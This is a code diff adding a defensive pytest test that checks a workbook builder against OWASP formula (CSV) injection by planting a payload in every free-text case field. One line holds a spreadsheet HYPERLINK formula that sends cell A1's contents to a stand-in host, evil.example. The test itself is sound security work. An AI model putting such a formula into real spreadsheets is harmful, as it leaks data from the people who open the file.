@@ -161,3 +161,55 @@ class TestCommand:
                      "--output", str(tmp_path)]) == 1
         err = capsys.readouterr().err.strip()
         assert "\n" not in err and "MINI-01" in err
+
+
+def _every_text_field(data, text, path):
+    """Set every text field of a case's data that accepts free text to ``text`` (a field whose
+    validation refuses it, an id or a category, keeps its value); writes the case to ``path``."""
+    import yaml
+
+    from eip_analysis.errors import InputError
+
+    from .conftest import each_mapping
+
+    fields = []
+    each_mapping(data, lambda d: fields.extend((d, k) for k, v in d.items()
+                                               if isinstance(v, str)))
+    for d, k in fields:
+        old = d[k]
+        d[k] = text + (" (source)" if k == "source" else "")
+        path.write_text(yaml.safe_dump(data, sort_keys=False))
+        try:
+            load_case(path)
+        except InputError:
+            d[k] = old
+    path.write_text(yaml.safe_dump(data, sort_keys=False))
+    return sum(1 for d, k in fields if str(d[k]).startswith(text))
+
+
+def test_case_text_never_becomes_a_formula(tmp_path):
+    """OWASP CSV injection: case text that starts with = + - @ is text in every cell."""
+    import copy
+
+    import yaml
+
+    data = yaml.safe_load(MINI.read_text())
+    attack = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
+    crafted = copy.deepcopy(data)
+    path = tmp_path / "MINI-01.yaml"
+    assert _every_text_field(crafted, attack, path) >= 10
+    wb, _ = build_workbook(appraise(load_case(path)))
+    written_as_text = 0
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if cell.data_type == "f":
+                    assert "HYPERLINK" not in str(cell.value), (ws.title, cell.coordinate)
+                elif isinstance(cell.value, str) and "HYPERLINK" in cell.value:
+                    written_as_text += 1
+    assert written_as_text >= 5  # the text is there, as text
+    out = tmp_path / "book.xlsx"
+    wb.save(out)
+    again = openpyxl.load_workbook(out)
+    assert not [c for ws in again.worksheets for r in ws.iter_rows() for c in r
+                if c.data_type == "f" and "HYPERLINK" in str(c.value)]
